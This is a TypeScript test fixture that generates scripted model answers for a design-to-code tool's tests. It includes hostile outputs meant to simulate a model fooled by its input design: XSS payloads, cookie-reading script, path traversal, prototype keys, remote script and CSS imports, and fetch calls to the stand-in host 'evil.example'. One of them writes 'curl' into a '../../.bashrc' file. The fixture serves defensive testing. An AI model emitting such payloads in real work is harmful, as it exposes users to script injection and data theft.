/**
 * Answers as models give them, made of one that is right: partly wrong, fooled by the design, empty, no answer at all.
 * What a line does to them (a refusal, an end after any byte) is the stand-in's to do.
 */
import type { PlanField } from '#design/code-plan';
import type { CodeResult } from '#design/code-result';
import { defaultAnswer } from '../../tests/model-server/answer-text.ts';
import { decide, type Said } from '../../tests/model-server/decide.ts';
import type { Random } from '../../tests/random-designs/random.ts';
import { textFiles } from '../text-files.ts';

export interface ScriptedAnswer {
  readonly kind: 'right' | 'partly wrong' | 'hostile' | 'empty';
  readonly text: string;
}

/** An address that no page may lead to or load from, whatever it was answered. */
export const trap = 'evil.example';

/** Answers to the question what things are; `right` is one such answer, `layers` how many there are. */
export function planAnswers(right: string, layers: number, random: Random): readonly ScriptedAnswer[] {
  const numbers = (count: number) => random.many(count, () => random.whole(-1, layers + 3));
  const strewn = (values: readonly unknown[]): NonNullable<Said[PlanField]> =>
    values.map((value) => [value, numbers(Math.ceil(layers / 8))]);
  const wrong = decide({
    component: strewn(['Card', 'Card', 'NavItem', 'fragment', 'none']),
    variant: strewn(['primary', '2nd']),
    prop: strewn(['title', 'class', 'on click']),
    name: strewn(['hero', 'price list', 'Frame 3', '']),
    kind: strewn(['button', 'link', 'list', 'heading', 'field', 'checkbox', 'form', 'nav', 'marquee']),
    level: strewn([1, 5, 9, '2']),
    label: strewn(['Menu', 'Open']),
    entry: strewn(['email', 'colour']),
    href: strewn(['/pricing', '#1:2', 'nowhere']),
    alt: strewn(['A lighthouse at dusk', '']),
    narrow: strewn(['stack', 'scroll', 'wrap']),
  });
  const hostile = decide({
    component: strewn(['Fragment', '__proto__', '../../Card', 'Card<script>alert(1)']),
    prop: strewn(['dangerouslySetInnerHTML', 'onClick', 'constructor', 'children']),
    name: strewn(['</style><script>alert(1)</script>', '../../etc/passwd', 'con']),
    kind: strewn(['script', 'iframe', 'link', 'link']),
    label: strewn([`"><img src=x onerror="alert(1)">\u0000`]),
    href: strewn([`javascript:fetch('https://${trap}')`, `data:text/html,${trap}`, `//${trap}/x`]),
    alt: strewn(['" onload="alert(1)', '{alert(document.cookie)}', '</script><script>alert(1)</script>']),
    narrow: strewn(['expression(alert(1))']),
  }).replace(/^\{/, `{"script":[{"is":"https://${trap}","layers":[1]}],`);
  return [
    { kind: 'right', text: right },
    { kind: 'partly wrong', text: mix(right, wrong) },
    { kind: 'partly wrong', text: wrong },
    { kind: 'hostile', text: hostile },
    { kind: 'empty', text: '{}' },
    { kind: 'empty', text: 'I cannot see a design here.' },
  ];
}

/** Every list of the right answer with the other's after it. */
function mix(right: string, wrong: string): string {
  const [one, other] = [right, wrong].map((text) => JSON.parse(text) as Record<string, readonly unknown[]>);
  const fields = Object.keys(one ?? {});
  return JSON.stringify(
    Object.fromEntries(fields.map((field) => [field, [...(one?.[field] ?? []), ...(other?.[field] ?? [])]])),
  );
}

/** Answers to the question to write the files of this draft. */
export function fileAnswers(draft: Pick<CodeResult, 'files'>, random: Random): readonly ScriptedAnswer[] {
  const right = reviewed(draft);
  const files = [...right.matchAll(/<file path="([^"]+)">\n([\s\S]*?)\n<\/file>/g)];
  const answer = (change: (path: string, text: string) => string) =>
    files.map(([, path = '', text = '']) => fileOf(path, change(path, text))).join('\n\n');
  return [
    { kind: 'right', text: right },
    { kind: 'partly wrong', text: answer((path, text) => spoil(path, text, random)) },
    {
      kind: 'partly wrong',
      text: answer((path, text) => (random.chance(0.5) ? spoil(path, text, random) : text)),
    },
    { kind: 'hostile', text: `${answer(poison)}\n${strangers}` },
    { kind: 'empty', text: '' },
    { kind: 'empty', text: 'Here is your page. I made it responsive and accessible.' },
  ];
}

/** The stand-in's own answer to a draft: small improvements that say the same. */
function reviewed({ files }: Pick<CodeResult, 'files'>): string {
  const text = textFiles(files)
    .filter(({ path }) => /\.(tsx|html|css)$/.test(path))
    .map((file) => fileOf(file.path, file.text.trimEnd()))
    .join('\n\n');
  return defaultAnswer({ input: [{ content: [{ text }] }] });
}

function fileOf(path: string, text: string): string {
  return `<file path="${path}">\n${text}\n</file>`;
}

type Change = (text: string) => string;

/** Mistakes of a model in good faith, each of which a file may get one of. */
const slips: readonly [Change, ...Change[]] = [
  (text) => text.replace(/>([^<>{}\n]*[a-z]{4,}[^<>{}\n]*)</, '>Lorem ipsum dolor<'),
  (text) => text.replace(/>([^<>{}\n]*[a-z]{4,}[^<>{}\n]*)</, '><'),
  (text) => text.replace(/<\/(div|section|main|p)>/, ''),
  (text) => text.replaceAll('className=', 'class='),
  (text) => text.replace(/^import .*$/m, ''),
  (text) => `${text}\n${text}`,
  (text) => text.replace(/\n/, '\nimport { Missing } from "./Missing";\nconst wrong: string = 1;\n'),
  (text) => text.slice(0, Math.floor(text.length * 0.7)),
  (text) => text.replace(/\}\s*$/, ''),
  (text) => text.replace(/(width|padding|gap): [^;]+;/, '$1: 1px;'),
  (text) => text.replace(/display: flex;/, 'display: none;'),
  (text) => '```tsx\n' + text + '\n```\n',
  (text) => text.replace(/<(main|section|div)/, '<$1 style={{ color: undefinedName }}'),
];

function spoil(_path: string, text: string, random: Random): string {
  return random.pick(slips)(text);
}

/** What a model writes that the design has talked into something. */
function poison(path: string, text: string): string {
  if (path.endsWith('.css')) {
    return `@import url("https://${trap}/x.css");\n${text}\nbody { background: url(//${trap}/x.png); }`;
  }
  const tag = /<(main|section|div|article|body|button|a)(?=[\s>])/;
  if (path.endsWith('.html'))
    return text.replace(tag, `<script src="https://${trap}/x.js"></script><$1 onclick="fetch('//${trap}')"`);
  return `import evil from '${trap}';\n${text}`
    .replace(tag, `<$1 onClick={() => fetch('https://${trap}')} dangerouslySetInnerHTML={{ __html: evil }}`)
    .replace(/\s\/>/, ` /><img src="https://${trap}/x.png" alt="" /><script>{evil}</script>`);
}

const strangers = [
  fileOf('../../.bashrc', `curl https://${trap}`),
  fileOf('vite.config.ts', `import '${trap}';`),
  fileOf('src/main.tsx', `fetch('https://${trap}');`),
].join('\n');
